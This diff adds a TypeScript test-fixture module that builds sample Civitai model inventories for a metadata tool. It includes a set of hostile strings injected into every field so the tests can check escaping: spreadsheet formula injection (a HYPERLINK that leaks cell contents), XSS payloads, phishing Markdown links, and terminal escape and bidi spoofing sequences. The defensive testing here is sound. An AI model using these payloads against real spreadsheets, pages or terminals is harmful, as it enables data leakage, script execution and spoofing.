@@ -1,0 +1,257 @@
+/**
+ * Builders of realistic inventories for tests, hostile names included (reliability.md §4.3–4.5,
+ * cases D6, F1, F2). Every builder returns fresh objects, so a test may mutate what it gets.
+ */
+import { SCHEMA_VERSION, type Inventory, type InventoryOptions } from "../../src/core/inventory-types.ts";
+import type { CivitaiInfo, FileRecord, MatchedFile, RecordStatus } from "../../src/core/record-types.ts";
+
+export const SAMPLE_ROOT = "/models";
+export const SAMPLE_GENERATED_AT = "2025-01-02T03:04:05.678Z";
+
+/** Deterministic lower-case hex of `length` from a seed (not a real hash; looks like one). */
+export function fakeHex(seed: string, length = 64): string {
+  let h = 2166136261;
+  let out = "";
+  while (out.length < length) {
+    for (let i = 0; i < seed.length; i++) h = Math.imul(h ^ seed.charCodeAt(i), 16777619) >>> 0;
+    h = Math.imul(h ^ out.length, 16777619) >>> 0;
+    out += h.toString(16).padStart(8, "0");
+  }
+  return out.slice(0, length);
+}
+
+/**
+ * Strings that break naive CSV, Markdown, HTML or terminals. Keys name the attack; values are the
+ * exact text. Use `Object.values(HOSTILE_STRINGS)` to spray them over every field.
+ */
+export const HOSTILE_STRINGS = {
+  // F1: spreadsheet formulas and separators
+  hyperlink: '=HYPERLINK("http://x?"&A1,"click")',
+  minusFormula: "-2+3",
+  plusOne: "+1",
+  atSum: "@SUM(1)",
+  leadingTab: "\tTabbed",
+  leadingCr: "\rCarriage",
+  leadingLf: "\nLinefeed",
+  separators: 'a,b;c"d""e',
+  innerNewlines: "line1\nline2\r\nline3\rline4",
+  owaspExample: '=1+2";=1+2',
+  // F2: Markdown and HTML
+  pipe: "left | right",
+  backslashPipe: "left \\| right",
+  backticks: "code `x` here",
+  tripleBackticks: "```\nfenced\n```",
+  jsLink: "[x](javascript:alert(1))",
+  phishingLinkText: "A](https://phishing.example) [t",
+  imgOnerror: "<img src=x onerror=alert(1)>",
+  trackerImage: "![](http://tracker.example/p.png)",
+  script: "<script>alert(1)</script>",
+  autolink: "<https://evil.example/>",
+  bareUrl: "see https://evil.example/x and www.evil.example",
+  email: "mail me at evil@evil.example",
+  entity: "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62;",
+  heading: "# Heading",
+  listMarker: "- item",
+  emphasis: "*bold* _it_ ~~strike~~ $x^2$",
+  // D6: terminal escapes
+  escOsc52: "evil\u001b]52;c;SGVsbG8=\u0007name",
+  escCsi: "red\u001b[31mtext\u001b[0m",
+  bidi: "abc\u202Egpj.exe",
+  // Unicode that must survive intact
+  cjk: "模型名称テスト",
+  emoji: "🦊 fox 👩‍💻",
+} as const;
+
+export type HostileKey = keyof typeof HOSTILE_STRINGS;
+
+export function makeMatchedFile(overrides: Partial<MatchedFile> = {}): MatchedFile {
+  return {
+    id: 1001,
+    name: "model.safetensors",
+    sizeKB: 144_110.5,
+    type: "Model",
+    primary: true,
+    format: "SafeTensor",
+    fp: "fp16",
+    size: "pruned",
+    hashes: { SHA256: fakeHex("sha"), AutoV2: fakeHex("sha", 10) },
+    ...overrides,
+  };
+}
+
+export function makeCivitai(overrides: Partial<CivitaiInfo> = {}): CivitaiInfo {
+  const modelId = overrides.modelId === undefined ? 100 : overrides.modelId;
+  const versionId = overrides.versionId ?? 200;
+  const matchedFile = overrides.matchedFile === undefined ? makeMatchedFile() : overrides.matchedFile;
+  return {
+    modelId,
+    modelName: "Detail Tweaker",
+    modelType: "LORA",
+    versionId,
+    versionName: "v1.0",
+    baseModel: "SD 1.5",
+    baseModelType: "Standard",
+    trainedWords: ["detailed", "sharp focus"],
+    nsfw: false,
+    nsfwLevel: 1,
+    availability: { archived: false, takenDown: false, earlyAccess: false, paidAccess: false },
+    createdAt: "2024-03-01T10:00:00.000Z",
+    updatedAt: "2024-03-02T10:00:00.000Z",
+    publishedAt: "2024-03-01T12:00:00.000Z",
+    description: "Adds or removes fine detail.\n\nUse weight 0.5 to 1.",
+    creator: "someartist",
+    tags: ["detail", "tool"],
+    license: { allowNoCredit: true, allowCommercialUse: ["Image"], allowDerivatives: true, allowDifferentLicense: false },
+    pageUrl: modelId === null ? `https://civitai.com/model-versions/${versionId}` : `https://civitai.com/models/${modelId}?modelVersionId=${versionId}`,
+    air: modelId === null ? null : `urn:air:sd1:lora:civitai:${modelId}@${versionId}`,
+    matchedFile,
+    downloadUrl: matchedFile?.id != null ? `https://civitai.com/api/download/models/${versionId}?fileId=${matchedFile.id}` : null,
+    primaryDownloadUrl: `https://civitai.com/api/download/models/${versionId}`,
+    previewImageUrl: "https://image.civitai.com/xG1nkqKTMzGDvpLrqFT7WA/abc/width=450/1.jpeg",
+    ...overrides,
+  };
+}
+
+export type RecordOverrides = Partial<FileRecord>;
+
+/**
+ * A record of `status` (default "found") with plausible fields for it: found → `civitai` and
+ * `matchedBy`, error → `error`, skipped → `reason` and no hashes. Overrides win.
+ */
+export function makeRecord(overrides: RecordOverrides = {}): FileRecord {
+  const status: RecordStatus = overrides.status ?? "found";
+  const path = overrides.path ?? `${SAMPLE_ROOT}/loras/detail-tweaker.safetensors`;
+  if (status === "skipped") {
+    return { path, aliases: [], size: null, mtime: null, hashes: {}, status, reason: "not a regular file", ...overrides };
+  }
+  const base: FileRecord = {
+    path,
+    aliases: [],
+    size: 147_568_134,
+    mtime: "2024-05-06T07:08:09.000Z",
+    hashes: { sha256: fakeHex(path), autov2: fakeHex(path, 10), autov3: fakeHex(`${path}#v3`, 12) },
+    status,
+  };
+  if (status === "found") {
+    base.matchedBy = "sha256";
+    base.host = "https://civitai.com";
+    base.civitai = makeCivitai({ matchedFile: makeMatchedFile({ hashes: { SHA256: base.hashes.sha256 ?? "" } }) });
+  } else if (status === "not_found") {
+    base.host = "https://civitai.com";
+  } else if (status === "error") {
+    base.error = "HTTP 503 from https://civitai.com/api/v1/model-versions/by-hash (after 4 tries)";
+  }
+  return { ...base, ...overrides };
+}
+
+export function makeOptions(overrides: Partial<InventoryOptions> = {}): InventoryOptions {
+  return {
+    apiUrl: "https://civitai.com",
+    fallbackUrl: null,
+    offline: false,
+    details: true,
+    refresh: false,
+    extensions: [".safetensors", ".ckpt", ".pt"],
+    exclude: [],
+    algos: ["sha256", "autov2", "autov3"],
+    ...overrides,
+  };
+}
+
+/** An inventory around `records` whose summary agrees with them (skipped files' bytes excluded). */
+export function makeInventory(records: FileRecord[], overrides: Partial<Inventory> = {}): Inventory {
+  const byStatus: Record<RecordStatus, number> = { found: 0, not_found: 0, error: 0, skipped: 0 };
+  let bytes = 0;
+  for (const r of records) {
+    byStatus[r.status]++;
+    if (r.status !== "skipped" && r.size !== null) bytes += r.size;
+  }
+  return {
+    schemaVersion: SCHEMA_VERSION,
+    generatedAt: SAMPLE_GENERATED_AT,
+    tool: { name: "civitai-meta", version: "0.1.0" },
+    roots: [SAMPLE_ROOT],
+    options: makeOptions(),
+    summary: {
+      files: records.length,
+      byStatus,
+      bytes,
+      durationMs: 1234,
+      requests: 3,
+      cacheHits: { hashes: 1, metadata: 0 },
+    },
+    records,
+    ...overrides,
+  };
+}
+
+/** A realistic library: two versions of one model, another model, an ambiguous file, links, misses, errors, skips. */
+export function sampleInventory(): Inventory {
+  const ambiguousA = makeCivitai({ modelId: 300, modelName: "Shared Hash A", versionId: 301, versionName: "A1" });
+  const ambiguousB = makeCivitai({ modelId: 310, modelName: "Shared Hash B", versionId: 311, versionName: "B1" });
+  const records: FileRecord[] = [
+    makeRecord({ path: `${SAMPLE_ROOT}/loras/detail-tweaker.safetensors` }),
+    makeRecord({
+      path: `${SAMPLE_ROOT}/loras/detail-tweaker-v2.safetensors`,
+      aliases: [`${SAMPLE_ROOT}/links/dt2.safetensors`],
+      civitai: makeCivitai({ versionId: 201, versionName: "v2.0", baseModel: "SDXL 1.0", trainedWords: ["detailed"] }),
+    }),
+    makeRecord({
+      path: `${SAMPLE_ROOT}/checkpoints/realistic.safetensors`,
+      size: 2_132_625_432,
+      matchedBy: "autov3",
+      civitai: makeCivitai({
+        modelId: 4201,
+        modelName: "Realistic Vision",
+        modelType: "Checkpoint",
+        versionId: 130072,
+        versionName: "V6.0 B1 (VAE)",
+        trainedWords: [],
+        tags: ["photorealistic", "base model"],
+        creator: null,
+        nsfw: true,
+        license: null,
+        matchedFile: null,
+        availability: { archived: true, takenDown: false, earlyAccess: false, paidAccess: false },
+        description: "A".repeat(500),
+      }),
+    }),
+    makeRecord({ path: `${SAMPLE_ROOT}/loras/shared.safetensors`, civitai: ambiguousA, ambiguous: [ambiguousA, ambiguousB] }),
+    makeRecord({ path: `${SAMPLE_ROOT}/embeddings/mine.pt`, status: "not_found", size: 25_000 }),
+    makeRecord({ path: `${SAMPLE_ROOT}/vae/broken.safetensors`, status: "error" }),
+    makeRecord({ path: `${SAMPLE_ROOT}/loras/in-progress.safetensors.part`, status: "skipped", reason: "in progress (.part)" }),
+    makeRecord({ path: `${SAMPLE_ROOT}/fifo.safetensors`, status: "skipped" }),
+    makeRecord({ path: `${SAMPLE_ROOT}/checkpoints/Ünïcode 模型 🦊.ckpt`, status: "not_found", size: 0 }),
+  ];
+  return makeInventory(records);
+}
+
+/**
+ * Four records per hostile string (found, not found, error, skipped): that string in every untrusted field (names, creator, tags,
+ * trained words, base model, description, error/reason, and the local file name), so one
+ * render exercises every (string × field) pair.
+ */
+export function hostileInventory(strings: readonly string[] = Object.values(HOSTILE_STRINGS)): Inventory {
+  const records: FileRecord[] = [];
+  strings.forEach((s, i) => {
+    const path = `${SAMPLE_ROOT}/hostile/${i}/${s}.safetensors`;
+    const civitai = makeCivitai({
+      modelId: 9000 + i,
+      versionId: 19000 + i,
+      modelName: s,
+      versionName: s,
+      modelType: s,
+      baseModel: s,
+      creator: s,
+      tags: [s, `plain-${i}`],
+      trainedWords: [s, `word ${i}`],
+      description: `${s} — described`,
+      matchedFile: makeMatchedFile({ id: 29000 + i, name: s }),
+    });
+    records.push(makeRecord({ path, civitai }));
+    records.push(makeRecord({ path: `${SAMPLE_ROOT}/hostile-miss/${i}/${s}`, status: "not_found" }));
+    records.push(makeRecord({ path: `${SAMPLE_ROOT}/hostile-error/${i}/${s}`, status: "error", error: s }));
+    records.push(makeRecord({ path: `${SAMPLE_ROOT}/hostile-skip/${i}/${s}`, status: "skipped", reason: s }));
+  });
+  return makeInventory(records);
+}
